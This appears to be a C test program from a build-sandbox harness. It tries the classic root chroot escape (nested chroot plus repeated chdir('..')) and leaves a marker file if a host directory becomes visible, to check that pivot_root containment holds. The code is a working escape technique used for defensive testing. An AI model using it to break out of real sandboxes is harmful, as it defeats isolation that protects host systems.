/* chroot_escape: the classic way out of a chroot, as root.
 *
 * Usage: chroot_escape HOST_DIR
 * Tries: mkdir("/escape"); chroot("/escape") (the cwd stays outside the new
 * root); chdir("..") 64 times; chroot("."). Under a plain chroot that lands
 * in the host's real root. It then looks for HOST_DIR (a directory on the
 * host, which the harness made and which is not in the sandbox) and, if it
 * sees it, creates HOST_DIR/escaped-by-chroot there.
 *
 * Contained: the build cannot see HOST_DIR, so the file never appears on the
 * host. pivot_root into the snapshot, with the old root detached, leaves no
 * host tree in the build's mount namespace to climb to.
 */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char** argv) {
  if (argc < 2) {
    fprintf(stderr, "usage: chroot_escape HOST_DIR\n");
    return 2;
  }
  mkdir("/escape", 0755);
  if (chroot("/escape") != 0) perror("chroot /escape");
  for (int up = 0; up < 64; ++up)
    if (chdir("..") != 0) break;
  if (chroot(".") != 0) perror("chroot .");
  char marker[4096];
  snprintf(marker, sizeof marker, "%s/escaped-by-chroot", argv[1]);
  struct stat st;
  if (stat(argv[1], &st) == 0) {
    int fd = open(marker, O_WRONLY | O_CREAT, 0644);
    printf("chroot_escape: saw %s, %s\n", argv[1], fd >= 0 ? "left a marker" : "could not write");
  } else {
    printf("chroot_escape: %s not visible: still inside\n", argv[1]);
  }
  return 0;
}
